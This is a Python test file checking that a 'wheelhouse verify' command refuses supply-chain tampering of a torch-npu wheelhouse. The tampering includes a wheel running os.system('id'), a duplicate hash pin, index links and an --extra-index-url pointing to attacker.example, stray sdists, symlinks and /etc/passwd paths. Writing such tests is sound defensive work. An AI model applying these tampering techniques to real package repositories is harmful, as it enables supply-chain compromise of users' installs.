"""A tampered wheelhouse is refused by `wheelhouse verify`, one test per attack; where it is
cheap, pip's own dry run shows that it would have installed the attacker's wheel."""
from __future__ import annotations

import json
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

import compat_matrix as cm
from compat_matrix import checksums
from npuenv.cli import main
from tests.fixtures.wheelhouse.synth import make_stack_wheels, make_wheel
from torch_npu_pkg import wheelhouse

ROW = "2.13.0"
STACK = cm.resolve(cm.load_matrix(), cm.Constraints(torch_npu="==" + ROW, python="3.11", arch="x86_64")).stack
TAG = "cp311-cp311-manylinux_2_28_x86_64"
EVIL_NAME = f"torch_npu-{ROW}-1evil-{TAG}.whl"   # a build tag: the same version, another file name


@pytest.fixture(scope="module")
def pristine(tmp_path_factory):
    root = tmp_path_factory.mktemp("attacks")
    torch_dir, deps = root / "torch-source", root / "deps"
    make_stack_wheels(torch_dir, deps, STACK)
    house = root / "house"
    assert main(["wheelhouse", "build", "--row", ROW, "--python", "3.11", "--arch", "x86_64", "--out", str(house),
                 "--torch-source", str(torch_dir), "--source", f"dir:{deps}", "--offline"]) == 0
    evil = make_wheel(root / "attacker", "torch_npu", ROW, TAG, requires=[f"torch=={ROW}.*"],
                      files={"torch_npu/__init__.py": b"import os; os.system('id')  # the attacker's\n"},
                      filename=EVIL_NAME)
    return house, evil


@pytest.fixture
def house(pristine, tmp_path):
    copy = tmp_path / "house"
    shutil.copytree(pristine[0], copy)
    return copy


@pytest.fixture
def evil(pristine):
    return pristine[1]


def pin_first(house: Path, evil: Path) -> None:
    """A second torch-npu pin with the attacker's hash, before the real one."""
    req = house / "requirements.txt"
    text = req.read_text()
    head, _, rest = text.partition("\n\n")
    req.write_text(f"{head}\n\ntorch-npu=={ROW} --hash=sha256:{checksums.sha256_file(evil)}\n{rest}")


def extra_link(house: Path, href: str, evil: Path) -> None:
    page = house / "simple" / "torch-npu" / "index.html"
    link = f'    <a href="{href}#sha256={checksums.sha256_file(evil)}">{evil.name}</a><br/>\n'
    page.write_text(page.read_text().replace("  </body>", link + "  </body>"))


def pip_picks(house: Path, *where: str) -> str:
    """The file pip would install for torch-npu from the wheelhouse, by its own dry run (this host is
    the synthetic wheels' target: CPython 3.11 on x86_64)."""
    report = house.parent / "pip-report.json"
    proc = subprocess.run([sys.executable, "-m", "pip", "install", "--isolated", "--dry-run", "--ignore-installed",
                           "--report", str(report), *where, "-r", str(house / "requirements.txt")],
                          capture_output=True, text=True)
    assert proc.returncode == 0, proc.stderr
    urls = [i["download_info"]["url"] for i in json.loads(report.read_text())["install"]
            if i["metadata"]["name"] in ("torch_npu", "torch-npu")]
    return Path(urls[0]).name


def find_links(house: Path):
    return ("--no-index", "--find-links", str(house))


def index(house: Path):
    return ("--index-url", (house / "simple").as_uri())


def refused(house: Path, capsys) -> str:
    assert main(["wheelhouse", "verify", str(house)]) == 1
    err = capsys.readouterr().err
    assert "Traceback" not in err and "problem(s)" in err
    return err


def test_the_untouched_wheelhouse_installs_its_own_wheel_and_verifies(house):
    assert wheelhouse.verify(house) == []
    real = f"torch_npu-{ROW}-{TAG}.whl"
    assert pip_picks(house, *find_links(house)) == real and pip_picks(house, *index(house)) == real


def test_pin_link_and_subfolder_wheel_together(house, evil, capsys):
    """The audit's case: each part alone looked harmless to the old verify, and pip took the attacker's wheel."""
    (house / "extra").mkdir()
    shutil.copy(evil, house / "extra" / evil.name)
    pin_first(house, evil)
    extra_link(house, f"../../extra/{evil.name}", evil)
    assert pip_picks(house, *index(house)) == EVIL_NAME
    err = refused(house, capsys)
    assert f"requirements.txt pins torch-npu 2 times (torch-npu=={ROW} --hash=sha256:" \
           f"{checksums.sha256_file(evil)}; torch_npu=={ROW} --hash=sha256:" in err
    assert "pip enforces the first: remove the extra pin" in err
    assert f"simple/torch-npu/index.html links to ../../extra/{evil.name}#sha256=" in err
    assert f"extra/{evil.name}: a wheel in a subfolder" in err


def test_a_second_pin_before_the_real_one(house, evil, capsys):
    shutil.copy(evil, house / evil.name)
    pin_first(house, evil)
    assert pip_picks(house, *find_links(house)) == EVIL_NAME
    err = refused(house, capsys)
    assert "requirements.txt pins torch-npu 2 times" in err
    assert f"{evil.name}: a wheel not listed in manifest.json; pip --find-links would consider it" in err


def test_a_second_pin_alone_is_refused(house, evil, capsys):
    pin_first(house, evil)
    assert "requirements.txt pins torch-npu 2 times" in refused(house, capsys)


def test_an_extra_link_alone_is_refused(house, evil, capsys):
    extra_link(house, f"https://attacker.example/{evil.name}", evil)
    err = refused(house, capsys)
    assert f"simple/torch-npu/index.html links to https://attacker.example/{evil.name}#sha256=" in err
    assert "which manifest.json does not list; pip --index-url would consider it" in err


@pytest.mark.parametrize("where", ["simple/torch-npu", "wheels/more"])
def test_a_wheel_in_a_subfolder_is_refused(house, evil, where, capsys):
    (house / where).mkdir(parents=True, exist_ok=True)
    shutil.copy(evil, house / where / evil.name)
    assert f"{where}/{evil.name}: a wheel in a subfolder" in refused(house, capsys)


@pytest.mark.parametrize("name", [f"torch_npu-{ROW}.tar.gz", f"torch_npu-{ROW}.zip", "torch-npu-2.99.tar.bz2"])
def test_an_sdist_beside_the_wheels_is_refused(house, name, capsys):
    (house / name).write_bytes(b"an sdist with a setup.py that runs at install time")
    assert f"{name}: a source archive (sdist) beside the wheels; pip --find-links would build and install it" \
           in refused(house, capsys)


@pytest.mark.parametrize("rel", ["notes.txt", "simple/torch-npu/readme.html", "sitecustomize.pth"])
def test_any_other_file_is_refused(house, rel, capsys):
    (house / rel).write_text("x")
    assert f"{rel}: a file the wheelhouse does not have (not in manifest.json): remove it" in refused(house, capsys)


def test_an_empty_extra_folder_and_a_link_are_refused(house, evil, capsys):
    (house / "empty").mkdir()
    (house / "simple" / "elsewhere").symlink_to(evil.parent)
    err = refused(house, capsys)
    assert "empty/: a folder the wheelhouse does not have" in err
    assert "simple/elsewhere: a symbolic link; a wheelhouse holds plain files only" in err


@pytest.mark.parametrize("line,message", [
    ("--extra-index-url https://attacker.example/simple", "pip option '--extra-index-url'"),
    ("--find-links /tmp", "pip option '--find-links'"),
    ("-r other.txt", "pip option '-r'"),
    ("evil-package==1.0", "requirements.txt pins evil-package, which the wheelhouse does not hold"),
])
def test_requirements_that_send_pip_elsewhere_are_refused(house, line, message, capsys):
    req = house / "requirements.txt"
    req.write_text(req.read_text() + line + "\n")
    assert message in refused(house, capsys)


def test_a_reworded_pin_is_refused(house, capsys):
    req = house / "requirements.txt"
    req.write_text(req.read_text().replace(f"torch_npu=={ROW} \\", f"torch_npu>={ROW} \\"))
    assert f"requirements.txt is not what manifest.json pins: line " in refused(house, capsys)


def test_binary_requirements_or_sums_are_bad_input(house, capsys):
    (house / "requirements.txt").write_bytes(b"\x00\x01binary")
    assert main(["wheelhouse", "verify", str(house)]) == 2
    err = capsys.readouterr().err
    assert f"{house / 'requirements.txt'} is not text (a NUL byte); pip cannot read it" in err and "Traceback" not in err
    (house / "SHA256SUMS").write_bytes(b"\xff\xfe\x00\x00")
    assert main(["wheelhouse", "verify", str(house)]) == 2
    assert f"{house / 'SHA256SUMS'} is a binary file, not a list of checksums" in capsys.readouterr().err


@pytest.mark.parametrize("change,message", [
    (lambda m: m["wheels"][0].update(file="../outside.whl"), "is not a wheel file name inside the wheelhouse"),
    (lambda m: m["wheels"][0].update(file="/etc/passwd"), "is not a wheel file name inside the wheelhouse"),
    (lambda m: m["wheels"][0].pop("sha256"), "wheels[0] must give file, project, name, version, sha256, role"),
    (lambda m: m.update(wheels=[]), "'wheels' must be a non-empty list"),
    (lambda m: m.update(target="x86"), "'target' must give python, arch and row_platforms"),
])
def test_a_malformed_manifest_is_bad_input(house, change, message, capsys):
    manifest = json.loads((house / "manifest.json").read_text())
    change(manifest)
    (house / "manifest.json").write_text(json.dumps(manifest))
    assert main(["wheelhouse", "verify", str(house)]) == 2
    err = capsys.readouterr().err
    assert f"{house / 'manifest.json'} is malformed:" in err and message in err and "Traceback" not in err
